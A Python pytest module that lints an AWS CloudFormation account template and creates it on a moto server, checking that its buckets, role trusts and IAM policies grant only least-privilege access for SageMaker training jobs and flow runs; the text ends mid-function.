"""The AWS account as code: deployments/account.yaml passes cfn-lint, and CloudFormation on a moto server creates
from it what the jobs and flow runs need; the policies it creates allow what the code calls and no more than the
run prefix, the execution role's PassRole and the stack's cluster; `hlat deploy --stack` and the worker image's
push read the stack's outputs, so nothing is hand-edited and no git remote is needed.

moto's CloudFormation creates the bucket with its encryption but drops four of the bucket's properties
(VersioningConfiguration, LifecycleConfiguration, PublicAccessBlockConfiguration, OwnershipControls) and has no
AWS::S3::BucketPolicy (the TLS-only policy): those are checked by putting the template's own values through S3's API
on the created bucket (botocore validates their shape, moto stores and returns them), and by cfn-lint against
CloudFormation's schemas. IAM is not simulated by moto: the created policies are read back from moto's IAM and
evaluated here (`allows`). The preflight itself runs against the created stack: its role's trust as the template
writes it, and the S3 probe as that role.
"""

from __future__ import annotations

import ast
import asyncio
import dataclasses
import fnmatch
import json
import os
import re
import subprocess
import sys
import urllib.parse
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from hlat.core.config import JobConfig
from hlat.deploy import (
    IMAGE_CODE_DIR,
    PROJECT_ROOT,
    DeployError,
    Stack,
    check_pushed,
    code_source,
    ecs_job_template,
    flow_run_secrets,
    load_deployments,
    push_worker_image,
    read_stack,
)
from tests.integration.conftest import REGION, set_aws_env

TEMPLATE = PROJECT_ROOT / "deployments" / "account.yaml"
ACCOUNT = "123456789012"  # moto's
DLC = "763104351884"


# -- cfn-lint ------------------------------------------------------------------------------------------------------
def test_the_template_passes_cfn_lint() -> None:
    lint = Path(sys.executable).with_name("cfn-lint")
    done = subprocess.run(
        [str(lint), "--format", "parseable", str(TEMPLATE)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_cfn_lint_would_catch_a_broken_template(tmp_path: Path) -> None:
    """The lint above is not vacuous: a policy action with a typo and a property of the wrong type fail it."""
    broken = tmp_path / "broken.yaml"
    text = TEMPLATE.read_text().replace("s3:AbortMultipartUpload", "s3:AbortMultipartUplod", 1)
    broken.write_text(text.replace("DaysAfterInitiation: !Ref AbortIncompleteUploadDays", "DaysAfterInitiation: x"))
    lint = Path(sys.executable).with_name("cfn-lint")
    done = subprocess.run([str(lint), "--format", "parseable", str(broken)], capture_output=True, text=True)
    assert done.returncode != 0
    found = {(line.split(":")[5], line.split(":")[1]) for line in done.stdout.splitlines()}
    assert ("W3037", "176") in found or any(code == "W3037" for code, _ in found), done.stdout  # unknown action
    assert "'abortmultipartuplod' is not one of" in done.stdout and "'x' is not of type 'integer'" in done.stdout


# -- the stack on moto ---------------------------------------------------------------------------------------------
class _CfnLoader(yaml.SafeLoader):
    """YAML with CloudFormation's short tags (!Ref, !Sub, ...) read as their long form."""


def _tag(loader: yaml.SafeLoader, suffix: str, node: yaml.Node) -> dict[str, Any]:
    name = "Ref" if suffix == "Ref" else "Condition" if suffix == "Condition" else f"Fn::{suffix}"
    if isinstance(node, yaml.ScalarNode):
        value: Any = loader.construct_scalar(node)
        if suffix == "GetAtt":
            value = value.split(".", 1)
    elif isinstance(node, yaml.SequenceNode):
        value = loader.construct_sequence(node, deep=True)
    else:
        value = loader.construct_mapping(node, deep=True)  # type: ignore[arg-type]
    return {name: value}


_CfnLoader.add_multi_constructor("!", _tag)


def template() -> dict[str, Any]:
    return yaml.load(TEMPLATE.read_text(), Loader=_CfnLoader)


@dataclass
class Created:
    stack: Stack
    bucket: str
    session: Any

    def client(self, service: str) -> Any:
        return self.session.client(service)


def create_stack(endpoint: str, **parameters: str) -> Created:
    import boto3

    session = boto3.Session(aws_access_key_id="testing", aws_secret_access_key="testing", region_name=REGION)
    name = f"hlat-{uuid.uuid4().hex[:8]}"
    bucket = f"{name}-runs"
    params = {"BucketName": bucket, "WorkerRepositoryName": f"{name}-worker", **parameters}
    cfn = session.client("cloudformation", endpoint_url=endpoint)
    cfn.create_stack(
        StackName=name,
        TemplateBody=TEMPLATE.read_text(),
        Capabilities=["CAPABILITY_NAMED_IAM"],
        Parameters=[{"ParameterKey": k, "ParameterValue": v} for k, v in params.items()],
    )
    return Created(
        read_stack(name, session=_EndpointSession(session, endpoint)), bucket, _EndpointSession(session, endpoint)
    )


class _EndpointSession:
    """A boto3 session whose clients all reach the moto server (as AWS_ENDPOINT_URL would)."""

    def __init__(self, session: Any, endpoint: str) -> None:
        self.session, self.endpoint, self.region_name = session, endpoint, session.region_name

    def client(self, service: str, **kwargs: Any) -> Any:
        return self.session.client(service, endpoint_url=self.endpoint, **kwargs)


@pytest.fixture(scope="module")
def default_stack(s3_server: str) -> Created:
    """The stack with its default parameters: no VPC of its own, no KMS key, no source bucket."""
    return create_stack(s3_server)


@pytest.fixture(scope="module")
def vpc_stack(s3_server: str) -> Created:
    """The stack with jobs in a VPC, a KMS key and a corpus bucket, S3 versioning (noncurrent versions kept 3 days),
    and no AssumeRole of the execution role for the preflight."""
    import boto3

    ec2 = boto3.client(
        "ec2", endpoint_url=s3_server, region_name=REGION, aws_access_key_id="t", aws_secret_access_key="t"
    )
    vpc = ec2.create_vpc(CidrBlock="10.8.0.0/16")["Vpc"]["VpcId"]
    subnets = [ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.8.{i}.0/24")["Subnet"]["SubnetId"] for i in (1, 2)]
    return create_stack(
        s3_server,
        Versioning="Enabled",
        NoncurrentVersionDays="3",
        PreflightAssumesExecutionRole="false",
        VpcId=vpc,
        SubnetIds=",".join(subnets),
        AssignPublicIp="DISABLED",
        JobsInVpc="true",
        KmsKeyArn=f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        SourceBucket="my-corpora",
    )


def role_statements(created: Created, role: str) -> list[dict[str, Any]]:
    """Every statement of the role's inline and attached policies, as moto's IAM stores them."""
    iam = created.client("iam")
    statements: list[dict[str, Any]] = []
    docs = [iam.get_role_policy(RoleName=role, PolicyName=n)["PolicyDocument"] for n in _inline(iam, role)]
    for attached in iam.list_attached_role_policies(RoleName=role)["AttachedPolicies"]:
        policy = iam.get_policy(PolicyArn=attached["PolicyArn"])["Policy"]
        version = iam.get_policy_version(PolicyArn=attached["PolicyArn"], VersionId=policy["DefaultVersionId"])
        docs.append(version["PolicyVersion"]["Document"])
    for doc in docs:
        doc = _document(doc)
        found = doc["Statement"]
        statements += found if isinstance(found, list) else [found]
    return statements


def _document(doc: Any) -> dict[str, Any]:
    """A policy document as boto3 returns it: decoded already, JSON, or (moto's inline role policies made by
    CloudFormation) the Python repr of the template's mapping."""
    if isinstance(doc, dict):
        return doc
    text = urllib.parse.unquote(doc)
    try:
        return dict(json.loads(text))
    except json.JSONDecodeError:
        return dict(ast.literal_eval(text))


def _inline(iam: Any, role: str) -> list[str]:
    return list(iam.list_role_policies(RoleName=role)["PolicyNames"])


def _listed(value: Any) -> list[str]:
    return value if isinstance(value, list) else [value]


def allows(statements: list[dict[str, Any]], action: str, resource: str, context: dict[str, Any] | None = None) -> bool:
    """Whether an Allow statement grants `action` on `resource` with the request `context` (IAM's wildcards;
    the condition operators this template uses; a condition key missing from the context does not match)."""
    context = context or {}
    for st in statements:
        if st["Effect"] != "Allow":
            continue
        if not any(fnmatch.fnmatchcase(action.lower(), a.lower()) for a in _listed(st["Action"])):
            continue
        if not any(fnmatch.fnmatchcase(resource, r) for r in _listed(st["Resource"])):
            continue
        if all(
            _condition(op, key, want, context)
            for op, tests in st.get("Condition", {}).items()
            for key, want in tests.items()
        ):
            return True
    return False


def _condition(op: str, key: str, want: Any, context: dict[str, Any]) -> bool:
    if op == "Null":  # "false": the key must be in the request; "true": it must not
        return (key in context) == (str(want).lower() == "false")
    if key not in context:
        return False
    got = context[key]
    if op.startswith("ForAllValues:"):  # every value of a multi-valued key matches one of `want`
        if isinstance(want, str):  # a CommaDelimitedList parameter, which moto's CloudFormation keeps joined
            want = want.split(",")
        return all(_condition(op.split(":", 1)[1], key, want, {key: value}) for value in _listed(got))
    if op == "NumericLessThanEquals":
        return float(got) <= float(_listed(want)[0])
    if op in ("StringEquals", "ArnEquals", "Bool"):
        return any(got.lower() == str(w).lower() if op == "Bool" else got == w for w in _listed(want))
    if op in ("StringLike", "ArnLike"):
        return any(fnmatch.fnmatchcase(got, w) for w in _listed(want))
    raise AssertionError(f"condition operator {op} not evaluated by this test")


def test_the_stack_creates_the_bucket_roles_repository_cluster_and_outputs(default_stack: Created) -> None:
    out, bucket = default_stack.stack.outputs, default_stack.bucket
    assert out["BucketName"] == bucket and out["RunsRoot"] == f"s3://{bucket}/hlat"
    assert (
        out["SageMakerExecutionRoleArn"]
        == f"arn:aws:iam::{ACCOUNT}:role/{default_stack.stack.name}-sagemaker-execution"
    )
    assert out["WorkerRepositoryUri"] == f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/{default_stack.stack.name}-worker"
    assert "JobSecurityGroupId" not in out and out["VpcId"] == "" and out["SubnetIds"] == ""
    s3 = default_stack.client("s3")
    rules = s3.get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"]["Rules"]
    assert rules[0]["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
    # Versioning is written out in both states (Enabled, the default since issue 51: a deleted or overwritten
    # checkpoint stays restorable for NoncurrentVersionDays), so that an update to Suspended suspends it (moto's
    # CloudFormation sets no versioning at all: test_every_versioned_bucket_expires_its_noncurrent_versions puts
    # the template's own settings through S3's API).
    assert template()["Resources"]["RunsBucket"]["Properties"]["VersioningConfiguration"] == {
        "Status": {"Ref": "Versioning"}
    }
    assert template()["Parameters"]["Versioning"]["Default"] == "Enabled"
    assert template()["Parameters"]["NoncurrentVersionDays"]["Default"] == 1
    repo = default_stack.client("ecr").describe_repositories(repositoryNames=[f"{default_stack.stack.name}-worker"])
    assert repo["repositories"][0]["repositoryUri"] == out["WorkerRepositoryUri"]
    clusters = default_stack.client("ecs").describe_clusters(clusters=[out["ClusterName"]])["clusters"]
    assert [c["status"] for c in clusters] == ["ACTIVE"]
    groups = default_stack.client("logs").describe_log_groups(logGroupNamePrefix=out["FlowRunLogGroup"])
    assert [g["retentionInDays"] for g in groups["logGroups"]] == [90]
    # No AWS-managed policy anywhere (AmazonSageMakerFullAccess above all): every right is written out here.
    iam = default_stack.client("iam")
    for role in ("sagemaker-execution", "flow-run", "task-execution", "worker"):
        attached = iam.list_attached_role_policies(RoleName=f"{default_stack.stack.name}-{role}")["AttachedPolicies"]
        assert all(f":{ACCOUNT}:policy/" in p["PolicyArn"] for p in attached), attached


def lifecycle_rules(parameters: dict[str, str] | None = None) -> list[dict[str, Any]]:
    """The runs bucket's lifecycle rules as the template writes them, in S3's API shape
    (PutBucketLifecycleConfiguration), each !Ref resolved to `parameters` or the parameter's default. A rule
    property not translated here fails."""
    params = {k: str(v.get("Default", "")) for k, v in template()["Parameters"].items()} | (parameters or {})

    def value(v: Any) -> int:
        return int(params[v["Ref"]] if isinstance(v, dict) else v)

    rules = []
    for rule in template()["Resources"]["RunsBucket"]["Properties"]["LifecycleConfiguration"]["Rules"]:
        known = {"Id", "Status", "Prefix", "AbortIncompleteMultipartUpload", "NoncurrentVersionExpiration"}
        assert set(rule) <= known | {"ExpiredObjectDeleteMarker"}, set(rule) - known
        out: dict[str, Any] = {"ID": rule["Id"], "Status": rule["Status"], "Filter": {"Prefix": rule.get("Prefix", "")}}
        if "AbortIncompleteMultipartUpload" in rule:
            days = value(rule["AbortIncompleteMultipartUpload"]["DaysAfterInitiation"])
            out["AbortIncompleteMultipartUpload"] = {"DaysAfterInitiation": days}
        if "NoncurrentVersionExpiration" in rule:
            out["NoncurrentVersionExpiration"] = {
                "NoncurrentDays": value(rule["NoncurrentVersionExpiration"]["NoncurrentDays"])
            }
        if rule.get("ExpiredObjectDeleteMarker"):
            out["Expiration"] = {"ExpiredObjectDeleteMarker": True}
        rules.append(out)
    return rules


def test_the_bucket_aborts_incomplete_uploads_and_blocks_public_access(default_stack: Created) -> None:
    """The properties moto's CloudFormation drops, put through S3's API as the template writes them."""
    bucket = template()["Resources"]["RunsBucket"]["Properties"]
    rules = lifecycle_rules()
    assert [r["ID"] for r in rules] == ["abort-incomplete-multipart-uploads", "expire-noncurrent-versions"]
    assert template()["Parameters"]["AbortIncompleteUploadDays"]["Default"] == 3
    s3, name = default_stack.client("s3"), default_stack.bucket
    s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={"Rules": rules})
    stored = s3.get_bucket_lifecycle_configuration(Bucket=name)["Rules"]
    assert (
        stored[0]["AbortIncompleteMultipartUpload"] == {"DaysAfterInitiation": 3} and stored[0]["Status"] == "Enabled"
    )
    block = bucket["PublicAccessBlockConfiguration"]
    assert block == dict.fromkeys(
        ("BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"), True
    )
    s3.put_public_access_block(Bucket=name, PublicAccessBlockConfiguration=block)
    assert s3.get_public_access_block(Bucket=name)["PublicAccessBlockConfiguration"] == block
    assert template()["Resources"]["RunsBucket"]["DeletionPolicy"] == "Retain"  # runs outlive the stack
    tls = template()["Resources"]["RunsBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"][0]
    assert (tls["Effect"], tls["Condition"]) == ("Deny", {"Bool": {"aws:SecureTransport": "false"}})


def test_every_versioned_bucket_expires_its_noncurrent_versions(vpc_stack: Created) -> None:
    """Retention deletes a checkpoint every checkpoint_every steps; under versioning the delete only hides it, and
    every bucket that can be versioned expires those noncurrent versions after NoncurrentVersionDays (and the delete
    markers left behind), for the whole bucket, whatever the Versioning parameter."""
    buckets = {k: r for k, r in template()["Resources"].items() if r["Type"] == "AWS::S3::Bucket"}
    versioned = {k: r for k, r in buckets.items() if "VersioningConfiguration" in r["Properties"]}
    assert versioned and set(versioned) == set(buckets), "a bucket the template can version"
    for name, resource in versioned.items():
        rules = resource["Properties"]["LifecycleConfiguration"]["Rules"]
        expiring = [r for r in rules if "NoncurrentVersionExpiration" in r and r["Status"] == "Enabled"]
        assert expiring, f"{name}: no enabled NoncurrentVersionExpiration rule"
        for rule in expiring:
            assert "Prefix" not in rule and "TagFilters" not in rule, f"{name}: {rule['Id']} covers part of the bucket"
            assert rule["NoncurrentVersionExpiration"]["NoncurrentDays"] == {"Ref": "NoncurrentVersionDays"}
            assert rule["ExpiredObjectDeleteMarker"] is True
    days = template()["Parameters"]["NoncurrentVersionDays"]
    assert days["Default"] == 1 and days["MinValue"] == 1  # ~25.7 TB of hlat-70b checkpoints a day (docs)
    # The stack with Versioning=Enabled and NoncurrentVersionDays=3: versioning and the rules as S3 takes them
    # (moto's CloudFormation drops both).
    s3, bucket = vpc_stack.client("s3"), vpc_stack.bucket
    status = template()["Resources"]["RunsBucket"]["Properties"]["VersioningConfiguration"]["Status"]
    s3.put_bucket_versioning(
        Bucket=bucket, VersioningConfiguration={"Status": {"Versioning": "Enabled"}[status["Ref"]]}
    )
    s3.put_bucket_lifecycle_configuration(
        Bucket=bucket, LifecycleConfiguration={"Rules": lifecycle_rules({"NoncurrentVersionDays": "3"})}
    )
    stored = {r["ID"]: r for r in s3.get_bucket_lifecycle_configuration(Bucket=bucket)["Rules"]}
    expire = stored["expire-noncurrent-versions"]
    assert expire["NoncurrentVersionExpiration"]["NoncurrentDays"] == 3 and expire["Status"] == "Enabled"
    assert expire["Expiration"] == {"ExpiredObjectDeleteMarker": True}
    # What the rule is for: a rotated checkpoint under versioning is a noncurrent version, still stored.
    key = "hlat/run/checkpoints/step-000000300/rank-0.pt"
    s3.put_object(Bucket=bucket, Key=key, Body=b"shard")
    s3.delete_object(Bucket=bucket, Key=key)
    versions = s3.list_object_versions(Bucket=bucket, Prefix=key)
    assert [v["IsLatest"] for v in versions["Versions"]] == [False] and len(versions["DeleteMarkers"]) == 1


def test_the_execution_role_reaches_the_run_prefix_images_and_logs_only(default_stack: Created) -> None:
    name, bucket = default_stack.stack.name, default_stack.bucket
    iam = default_stack.client("iam")
    trust = iam.get_role(RoleName=f"{name}-sagemaker-execution")["Role"]["AssumeRolePolicyDocument"]
    trust = _document(trust)
    assert [s["Principal"] for s in trust["Statement"]] == [
        {"Service": "sagemaker.amazonaws.com"},
        {"AWS": f"arn:aws:iam::{ACCOUNT}:root"},  # the preflight's probe (PreflightAssumesExecutionRole)
    ]
    st = role_statements(default_stack, f"{name}-sagemaker-execution")
    obj = f"arn:aws:s3:::{bucket}/hlat/hlat-7b-1a2b/checkpoints/step-000001000/rank-0.pt"
    for action in ("s3:GetObject", "s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"):
        assert allows(st, action, obj), action
    assert not allows(st, "s3:PutObject", f"arn:aws:s3:::{bucket}/elsewhere/x")
    assert not allows(st, "s3:PutObject", "arn:aws:s3:::other-bucket/hlat/x")
    assert allows(st, "s3:ListBucket", f"arn:aws:s3:::{bucket}", {"s3:prefix": "hlat/hlat-7b-1a2b/data/"})
    assert not allows(st, "s3:ListBucket", f"arn:aws:s3:::{bucket}", {"s3:prefix": "elsewhere/"})
    neuron = f"arn:aws:ecr:{REGION}:{DLC}:repository/pytorch-training-neuronx"
    for action in ("ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:BatchCheckLayerAvailability"):
        assert allows(st, action, neuron), action
    assert allows(st, "ecr:BatchGetImage", f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/hlat-neuron-custom")
    assert allows(st, "ecr:GetAuthorizationToken", "*")
    stream = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/aws/sagemaker/TrainingJobs:log-stream:job/algo-1"
    assert allows(st, "logs:PutLogEvents", stream) and allows(st, "logs:CreateLogStream", stream)
    assert allows(st, "cloudwatch:PutMetricData", "*", {"cloudwatch:namespace": "/aws/sagemaker/TrainingJobs"})
    # Nothing of SageMaker's API, IAM, EC2 (no VPC here), nor KMS.
    for action in ("sagemaker:CreateTrainingJob", "iam:PassRole", "ec2:CreateNetworkInterface", "kms:Decrypt"):
        assert not allows(st, action, "*") and not any(action in _listed(s["Action"]) for s in st), action


def test_the_flow_runs_may_run_jobs_and_pass_the_execution_role_only(default_stack: Created) -> None:
    out, name, bucket = default_stack.stack.outputs, default_stack.stack.name, default_stack.bucket
    st = role_statements(default_stack, f"{name}-flow-run")
    job = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/hlat-7b-1a2b-train-3"
    hlats = {"aws:RequestTag/hlat:run-id": "hlat-7b-1a2b", "aws:ResourceTag/hlat:run-id": "hlat-7b-1a2b", **BOUNDED}
    for action in ("sagemaker:CreateTrainingJob", "sagemaker:DescribeTrainingJob", "sagemaker:StopTrainingJob"):
        assert allows(st, action, job, hlats), action
    assert allows(st, "sagemaker:AddTags", job, hlats)  # CreateTrainingJob carries tags
    role = out["SageMakerExecutionRoleArn"]
    to_sagemaker = {"iam:PassedToService": "sagemaker.amazonaws.com"}
    assert allows(st, "iam:PassRole", role, to_sagemaker)
    assert not allows(st, "iam:PassRole", role, {"iam:PassedToService": "ec2.amazonaws.com"})
    assert not allows(st, "iam:PassRole", out["FlowRunRoleArn"], to_sagemaker)
    assert not allows(st, "iam:PassRole", f"arn:aws:iam::{ACCOUNT}:role/Admin", to_sagemaker)
    assert allows(st, "s3:PutObject", f"arn:aws:s3:::{bucket}/hlat/run/config.json")
    assert not allows(st, "s3:PutObject", f"arn:aws:s3:::{bucket}/other/config.json")
    group = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/aws/sagemaker/TrainingJobs"
    assert allows(st, "logs:FilterLogEvents", group)
    # The preflight's reads.
    assert allows(st, "iam:GetRole", role) and allows(st, "iam:SimulatePrincipalPolicy", out["FlowRunRoleArn"])
    assert allows(st, "servicequotas:GetServiceQuota", "*") and allows(st, "servicequotas:ListServiceQuotas", "*")
    assert allows(st, "ecr:DescribeImages", f"arn:aws:ecr:{REGION}:{DLC}:repository/pytorch-training-neuronx")
    assert allows(st, "sagemaker:DescribeTrainingPlan", f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-plan/p1")
    assert not allows(st, "sagemaker:CreateEndpoint", "*") and not allows(st, "iam:CreateRole", "*")


def test_the_preflight_may_assume_the_execution_role_in_its_own_sessions_only(
    default_stack: Created, vpc_stack: Created
) -> None:
    """The trust delegates to the account's own policies (Principal: the account) for sessions named
    hlat-preflight-*, and FlowRunPolicy allows exactly that; with PreflightAssumesExecutionRole=false the trust names
    SageMaker alone."""
    from hlat.infra.checks.iam import _trusts_sagemaker
    from hlat.infra.checks.storage_probe import PROBE_SESSION

    out, name = default_stack.stack.outputs, default_stack.stack.name
    role = out["SageMakerExecutionRoleArn"]
    iam = default_stack.client("iam")
    trust = _document(iam.get_role(RoleName=f"{name}-sagemaker-execution")["Role"]["AssumeRolePolicyDocument"])
    (probe,) = [s for s in trust["Statement"] if s.get("Sid") == "PreflightProbes"]
    session = {"sts:RoleSessionName": f"{PROBE_SESSION}0123456789ab"}
    assert probe["Action"] == "sts:AssumeRole" and probe["Effect"] == "Allow"
    (op, tests), = probe["Condition"].items()  # fmt: skip
    assert all(_condition(op, key, want, session) for key, want in tests.items())
    assert not all(_condition(op, key, want, {"sts:RoleSessionName": "admin"}) for key, want in tests.items())
    flow_run = role_statements(default_stack, f"{name}-flow-run")
    assert allows(flow_run, "sts:AssumeRole", role, session)
    assert not allows(flow_run, "sts:AssumeRole", role, {"sts:RoleSessionName": "anything-else"})
    assert not allows(flow_run, "sts:AssumeRole", out["FlowRunRoleArn"], session)
    # The preflight reads this trust as trusting SageMaker for the account's jobs (its aws:SourceAccount guard).
    job = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/hlat-7b-1a2b-train-1"
    assert _trusts_sagemaker(trust, {"aws:sourceaccount": ACCOUNT, "aws:sourcearn": job}) is True
    # aws:SourceArn too (issue 51): SageMaker acting for this account's training jobs only, in the stack's region.
    for other in (job.replace(REGION, "eu-west-1"), job.replace("training-job", "notebook-instance")):
        assert _trusts_sagemaker(trust, {"aws:sourceaccount": ACCOUNT, "aws:sourcearn": other}) is False, other
    for role_name in ("task-execution", "flow-run", "worker"):
        ecs_trust = _document(iam.get_role(RoleName=f"{name}-{role_name}")["Role"]["AssumeRolePolicyDocument"])
        (statement,) = ecs_trust["Statement"]
        assert statement["Condition"]["ArnLike"] == {"aws:SourceArn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:*"}, role_name
    off = vpc_stack.stack.name
    off_trust = _document(
        vpc_stack.client("iam").get_role(RoleName=f"{off}-sagemaker-execution")["Role"]["AssumeRolePolicyDocument"]
    )
    # FlowRunPolicy's statement stays, inert: IAM lets a principal assume a role only where the role's trust lets it.
    assert [s["Principal"] for s in off_trust["Statement"]] == [{"Service": "sagemaker.amazonaws.com"}]


def test_the_preflight_passes_on_the_stack_probing_as_its_execution_role(
    default_stack: Created, s3_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`hlat preflight` against what the template created (moto's default caller): the role trusts SageMaker as the
    template writes it (before, its aws:SourceAccount condition read as 'does not trust'), and the run prefix is
    probed as the assumed execution role."""
    from hlat.core.presets import load_config
    from hlat.infra.checks.preflight import run_preflight
    from tests.integration.test_preflight import stubbed_quotas

    set_aws_env(monkeypatch, s3_server, "testing", "testing")
    out = default_stack.stack.outputs
    role = out["SageMakerExecutionRoleArn"]
    sets = {"job.backend": "sagemaker", "job.region": REGION, "job.role_arn": role,
            "data.source": "builtin:python-stdlib", "tokenizer.pretrained": None}  # fmt: skip
    config = load_config("hlat-7b", sets, storage=out["RunsRoot"])
    result = run_preflight(config, clients={"service-quotas": stubbed_quotas(config)})
    assert result.ok, result.lines()
    by_check = {f.check: f for f in result.findings}
    assert by_check["role"].line() == f"preflight ok   role: {role} exists and trusts sagemaker.amazonaws.com"
    where = f"s3://{default_stack.bucket}/hlat/{config.resolved_run_id()}/"
    assert [f.line() for f in result.findings if f.check == "storage"] == [
        f"preflight ok   storage: write, read, list and delete under {where} as the caller",
        f"preflight ok   storage: write, read, list and delete under {where} as the job's role {role}",
    ]


def test_the_flow_runs_make_run_roles_only_under_the_stacks_path_with_its_boundary(default_stack: Created) -> None:
    """Issue 51, a role per run (infra/backends/run_roles.py; tests/integration/test_run_roles.py shows the isolation
    on an
    IAM-enforcing moto): the flow-run policy creates and passes roles under /hlat-runs/<stack>/ only, only carrying
    the stack's run-role boundary, and attaches the stack's <stack>-job-* policies only; the boundary caps storage
    at the run root and the corpus bucket."""
    name, out = default_stack.stack.name, default_stack.stack.outputs
    st = role_statements(default_stack, f"{name}-flow-run")
    boundary = out["RunRoleBoundaryArn"]
    assert boundary == f"arn:aws:iam::{ACCOUNT}:policy/{name}-run-role-boundary"
    assert out["RunRolePath"] == f"/hlat-runs/{name}/"
    role = f"arn:aws:iam::{ACCOUNT}:role/hlat-runs/{name}/hlat-run-0123-run"
    for action in ("iam:CreateRole", "iam:PutRolePolicy", "iam:AttachRolePolicy"):
        assert allows(st, action, role, {"iam:PermissionsBoundary": boundary}), action
        assert not allows(st, action, role), f"{action} without the boundary"
        assert not allows(st, action, role, {"iam:PermissionsBoundary": f"arn:aws:iam::{ACCOUNT}:policy/admin"})
        other = f"arn:aws:iam::{ACCOUNT}:role/{name}-sagemaker-execution"
        assert not allows(st, action, other, {"iam:PermissionsBoundary": boundary}), f"{action} outside the path"
    assert allows(st, "iam:PassRole", role, {"iam:PassedToService": "sagemaker.amazonaws.com"})
    assert not allows(st, "iam:PassRole", role, {"iam:PassedToService": "ec2.amazonaws.com"})
    (deny,) = [x for x in st if x.get("Sid") == "RunRolesStackPoliciesOnly"]
    assert deny["Effect"] == "Deny" and deny["Action"] == "iam:AttachRolePolicy"
    (pattern,) = _listed(deny["Condition"]["ArnNotLike"]["iam:PolicyARN"])
    assert fnmatch.fnmatchcase(f"arn:aws:iam::{ACCOUNT}:policy/{name}-job-common", pattern)
    assert not fnmatch.fnmatchcase("arn:aws:iam::aws:policy/AdministratorAccess", pattern)
    iam = default_stack.client("iam")
    version = iam.get_policy(PolicyArn=boundary)["Policy"]["DefaultVersionId"]
    doc = _document(iam.get_policy_version(PolicyArn=boundary, VersionId=version)["PolicyVersion"]["Document"])
    caps = doc["Statement"]
    bucket = default_stack.bucket
    assert allows(caps, "s3:PutObject", f"arn:aws:s3:::{bucket}/hlat/run-a/checkpoints/x")
    assert not allows(caps, "s3:PutObject", f"arn:aws:s3:::{bucket}/elsewhere/x")
    assert not allows(caps, "s3:GetObject", "arn:aws:s3:::another-bucket/x")
    assert not allows(caps, "iam:CreateRole", role) and not allows(caps, "sagemaker:CreateTrainingJob", "*")
    # Every managed policy of the execution role is one a run role may carry (<stack>-job-*).
    attached = iam.list_attached_role_policies(RoleName=f"{name}-sagemaker-execution")["AttachedPolicies"]
    assert [p["PolicyName"] for p in attached] == [f"{name}-job-common"]


BOUNDED = {
    "sagemaker:InstanceTypes": ["ml.trn1.32xlarge"],
    "sagemaker:MaxRuntimeInSeconds": "1908000",
    "sagemaker:InterContainerTrafficEncryption": "true",
}
"""A CreateTrainingJob request of hlat-7b's training as IAM sees it (its condition keys)."""


def test_the_flow_runs_create_tagged_jobs_and_stop_only_hlats(default_stack: Created) -> None:
    """Issue 51, least privilege: CreateTrainingJob only with hlat's run tag (the backend tags every job), and
    StopTrainingJob only on a job that carries it; the worker cannot deregister task definitions (the pool's
    template fixes auto_deregister_task_definition off)."""
    name = default_stack.stack.name
    st = role_statements(default_stack, f"{name}-flow-run")
    job = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/hlat-run-a-train-1"  # infra/backends/protocol.py job_name
    tagged = {"aws:RequestTag/hlat:run-id": "run-a", **BOUNDED}
    assert allows(st, "sagemaker:CreateTrainingJob", job, tagged) and allows(st, "sagemaker:AddTags", job, tagged)
    assert not allows(st, "sagemaker:CreateTrainingJob", job, BOUNDED) and not allows(st, "sagemaker:AddTags", job)
    # The account's bounds on what a job may be (SageMaker's condition keys): instance types, runtime, encryption.
    for outside in (
        {"sagemaker:InstanceTypes": ["ml.trn1.32xlarge", "ml.p5en.48xlarge"]},
        {"sagemaker:MaxRuntimeInSeconds": "2419201"},
        {"sagemaker:InterContainerTrafficEncryption": "false"},
    ):
        assert not allows(st, "sagemaker:CreateTrainingJob", job, {**tagged, **outside}), outside
    for inside in ("ml.trn1.32xlarge", "ml.p4d.24xlarge", "ml.c5.4xlarge", "ml.g5.2xlarge"):
        assert allows(st, "sagemaker:CreateTrainingJob", job, {**tagged, "sagemaker:InstanceTypes": [inside]}), inside
    assert allows(st, "sagemaker:StopTrainingJob", job, {"aws:ResourceTag/hlat:run-id": "run-a"})
    assert not allows(st, "sagemaker:StopTrainingJob", job)  # another team's job
    assert allows(st, "sagemaker:DescribeTrainingJob", job)  # a name not yet used is described before it is made
    # Another team's job (its name is not hlat's), even tagged as hlat's, is neither described nor stopped.
    theirs = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/their-run-train-1"
    assert not allows(st, "sagemaker:DescribeTrainingJob", theirs)
    assert not allows(st, "sagemaker:StopTrainingJob", theirs, {"aws:ResourceTag/hlat:run-id": "x"})
    assert not allows(st, "sagemaker:CreateTrainingJob", theirs, tagged)
    group = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/aws/sagemaker/TrainingJobs"
    assert allows(st, "logs:GetLogEvents", f"{group}:log-stream:hlat-run-a-train-1/algo-1-1700000000")
    assert not allows(st, "logs:GetLogEvents", f"{group}:log-stream:their-run-train-1/algo-1-1700000000")
    from hlat.infra.backends.protocol import job_name

    assert job_name("run-a", 1) == "hlat-run-a-train-1"
    worker = role_statements(default_stack, f"{name}-worker")
    assert not _allowed_somewhere(worker, "ecs:DeregisterTaskDefinition")
    template = ecs_job_template(default_stack.stack, "x:1")
